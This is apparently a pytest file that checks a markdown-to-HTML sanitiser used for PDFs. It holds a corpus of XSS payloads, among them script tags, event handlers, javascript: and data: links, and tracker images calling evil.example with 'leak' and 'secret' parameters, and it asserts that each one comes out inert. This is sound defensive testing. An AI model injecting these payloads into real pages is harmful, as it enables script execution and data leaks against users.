"""Markdown for PDFs: formatting survives, HTML and script from data or the model do not."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from revtops_kernel.artifacts.markdown import markdown_html, text_html

XSS_CORPUS = [
    "<script>alert(1)</script>",
    '<img src="http://evil.example/x.png?leak=1" onerror="alert(2)">',
    "[click](javascript:alert(3))",
    "[click](JaVaScRiPt:alert(3))",
    "[click](  javascript:alert(3))",
    "![tracker](http://evil.example/t.png?data=secret)",
    "| a | b |\n|---|---|\n| <b onmouseover=alert(4)>x</b> | <iframe src=//evil.example> |",
    '<a href="javascript:alert(5)">x</a>',
    "<svg onload=alert(6)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<style>@import "http://evil.example/a.css";</style>',
    "<<script>script>alert(7)<</script>/script>",
]


class Elements(HTMLParser):
    """Every real element and attribute of an HTML fragment (escaped text is not one)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    """Only harmless tags; no handlers, no sources to fetch, links only to http(s)/mailto."""
    for tag, attrs in Elements(html).elements:
        assert tag in INERT_TAGS, tag
        assert not any(name.startswith("on") for name in attrs), attrs
        assert "src" not in attrs, attrs
        assert "style" not in attrs or (tag in ("td", "th") and "url" not in str(attrs)), attrs
        href = (attrs.get("href") or "").strip().lower()
        assert not href or href.startswith(("http://", "https://", "mailto:")), href


INERT_TAGS = {
    "p",
    "br",
    "a",
    "strong",
    "em",
    "code",
    "pre",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "h1",
    "h2",
    "h3",
    "ul",
    "ol",
    "li",
    "blockquote",
    "del",
    "s",
    "hr",
}


@pytest.mark.parametrize("text", XSS_CORPUS)
def test_the_xss_corpus_comes_out_inert(text: str) -> None:
    html = markdown_html(text)
    assert_inert(html)
    assert "evil.example/t.png" not in html  # an image never becomes a URL to fetch


def test_markdown_formatting_is_kept() -> None:
    html = markdown_html(
        "## Pipeline\n\n**$1.2M** in *Discovery*, `code`\n\n- one\n- two\n\n"
        "| Stage | Total |\n|:--|--:|\n| A | 1 |\n\n[docs](https://example.com/d)"
    )
    assert "<h2>Pipeline</h2>" in html
    assert "<strong>$1.2M</strong>" in html and "<em>Discovery</em>" in html
    assert "<li>one</li>" in html and "<code>code</code>" in html
    assert '<td style="text-align:right">1</td>' in html
    assert 'href="https://example.com/d"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_script_in_text_stays_visible_as_text() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown_html("<script>alert(1)</script>")
    assert text_html("a <b>\nnext") == "a &lt;b&gt;<br>next"


def test_images_print_as_their_alt_text() -> None:
    assert markdown_html("![Q1 chart](https://example.com/c.png)") == ("<p>[image: Q1 chart]</p>\n")
